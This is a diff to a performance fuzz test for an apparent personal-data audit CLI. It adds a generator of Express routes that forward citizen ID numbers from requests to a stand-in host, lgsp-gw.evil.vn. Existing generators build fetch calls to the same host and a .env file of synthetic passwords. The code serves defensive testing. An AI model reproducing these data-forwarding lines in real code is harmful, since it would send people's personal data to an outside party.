@@ -207,7 +207,7 @@ describe('fuzz: adversarial strings through every string routine', () => {
     expect(bad).toEqual([]);
   }, 600_000);
 
-  it.runIf(FULL)('the whole CLI grows linearly on a one-line JSON, a one-line bundle and a .env of many passwords', async () => {
+  it.runIf(FULL)('the whole CLI grows linearly on a one-line JSON, a one-line bundle, a .env of many passwords and a file of many routes', async () => {
     const timeOf = async (files: Record<string, string>) => {
       const dir = tempDir('fuzz-growth');
       writeFiles(dir, { 'popdb-policy.yaml': POLICY, ...files });
@@ -220,8 +220,12 @@ describe('fuzz: adversarial strings through every string routine', () => {
     const bundle = (n: number) => `${Array.from({ length: n }, (_, i) => `function a${i}(b){return fetch("https://lgsp-gw.evil.vn/dancu/v1/x"+b)}`).join(';')}\n`;
     // every password line asks for its user name: once a search of the whole file (quadratic: 8,000 lines took 40 s)
     const env = (n: number) => Array.from({ length: n }, (_, i) => `SVC${i}_USER=svc${i}\nSVC${i}_PASSWORD=Xk9${(i * 7919).toString(36)}Qz${i}`).join('\n');
+    // one file of unaudited lookup routes: each handler's audit search climbed to the module and walked it (3,000 routes: 45 s)
+    const routes = (n: number) =>
+      `import { Router } from 'express';\nimport axios from 'axios';\nexport const r = Router();\n${Array.from({ length: n }, (_, i) => `r.get('/tra-cuu-${i}/:so', async (req, res) => {\n  const x = await axios.post('https://lgsp-gw.evil.vn/dancu/v1/CungCapThongTinCongDan', { so: req.params.so });\n  res.json(x.data);\n});`).join('\n')}\n`;
     const rows: string[] = [];
     for (const [name, gen, n] of [
+      ['unaudited routes in one file', (k: number) => ({ 'src/routes.ts': routes(k) }), 1_500],
       ['one-line JSON', (k: number) => ({ 'd/u.json': json(k) }), 12_000],
       ['one-line bundle', (k: number) => ({ 'p/bundle.js': bundle(k) }), 15_000],
       ['.env passwords', (k: number) => ({ '.env': env(k) }), 4_000],
